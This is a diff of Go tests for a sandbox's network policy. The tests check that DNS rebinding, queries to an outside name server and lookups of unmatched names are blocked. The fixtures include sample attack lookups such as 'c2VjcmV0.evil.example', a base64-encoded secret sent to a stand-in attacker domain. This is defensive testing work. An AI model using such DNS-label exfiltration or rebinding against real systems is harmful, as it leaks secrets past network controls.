@@ -10,8 +10,8 @@ import (
 	policy "github.com/mayfly-run/mayfly/internal/network"
 )
 
-// TestN03_RebindingAndAliases has names that lead to a private address: later
-// than the first time, beside a public one, and through an alias.
+// TestN03_RebindingAndAliases dials names that have a private address: only after the first lookup, beside a public one, and
+// through an alias.
 func TestN03_RebindingAndAliases(t *testing.T) {
 	i, l := newInternet(t), newLab(t)
 	i.nameServer(map[string][]string{
@@ -27,7 +27,7 @@ func TestN03_RebindingAndAliases(t *testing.T) {
 		args = append(args, name+".example:"+port)
 	}
 	args = append(args, "loop.example:"+loop)
-	for name, p := range map[string]policy.Policy{"list": list(`{host: "*.example"}`), "public": public} {
+	for name, p := range map[string]policy.Policy{"list": listPolicy(`{host: "*.example"}`), "public": public} {
 		t.Run(name, func(t *testing.T) {
 			var r result
 			i.withNameServer(func() *live { return l.with(t).start(l.spec(p, append([]string{"client", "dial"}, args...)...)) }, &r)
@@ -41,7 +41,7 @@ func TestN03_RebindingAndAliases(t *testing.T) {
 					t.Errorf("report %+v without the name that led there", c)
 				}
 			}
-			// The server's name led to both; only the public one was dialled.
+			// Only the public address was dialled.
 			if c := r.connection("tcp", server4); c == nil || !c.Allowed {
 				t.Errorf("report %+v", c)
 			}
@@ -49,29 +49,27 @@ func TestN03_RebindingAndAliases(t *testing.T) {
 	}
 }
 
-// TestN03_OtherNameServer asks another server than the sandbox's, past the
-// names that the policy allows.
+// TestN03_OtherNameServer asks another name server than the sandbox's, for names that the policy doesn't allow.
 func TestN03_OtherNameServer(t *testing.T) {
 	i, l := newInternet(t), newLab(t)
 	d := i.nameServer(map[string][]string{"secret.evil.example": {server4}})
-	r := l.run(list("{host: good.example}"), "ask", nameServer+":53")
+	r := l.run(listPolicy("{host: good.example}"), "ask", nameServer+":53")
 	r.refused(t, nameServer+":53")
 	r.denied(t, "udp", nameServer)
-	r = l.start(l.spec(list("{host: good.example}"), "nslookup", "secret.evil.example", nameServer)).wait()
+	r = l.start(l.spec(listPolicy("{host: good.example}"), "nslookup", "secret.evil.example", nameServer)).wait()
 	if r.Code == 0 || d.count("secret.evil.example") != 0 {
 		t.Errorf("asked %d times: %s%s", d.count("secret.evil.example"), r.stdout, r.stderr)
 	}
 }
 
-// TestN03_OtherNamesDontLeave looks names up that no rule is about: their
-// labels could carry a secret.
+// TestN03_OtherNamesDontLeave looks up names that no rule matches: their labels could carry a secret.
 func TestN03_OtherNamesDontLeave(t *testing.T) {
 	i, l := newInternet(t), newLab(t)
 	d := i.nameServer(map[string][]string{"good.example": {server4}, "c2VjcmV0.evil.example": {server4}})
 	port := i.serve(server4+":0", welcome)
 	var r result
 	i.withNameServer(func() *live {
-		return l.start(l.spec(list("{host: good.example}"), "client", "dial", "good.example:"+port, "c2VjcmV0.evil.example:"+port))
+		return l.start(l.spec(listPolicy("{host: good.example}"), "client", "dial", "good.example:"+port, "c2VjcmV0.evil.example:"+port))
 	}, &r)
 	if got := r.outcomes()["good.example:"+port]; got != "ok" {
 		t.Errorf("good.example: %q", got)
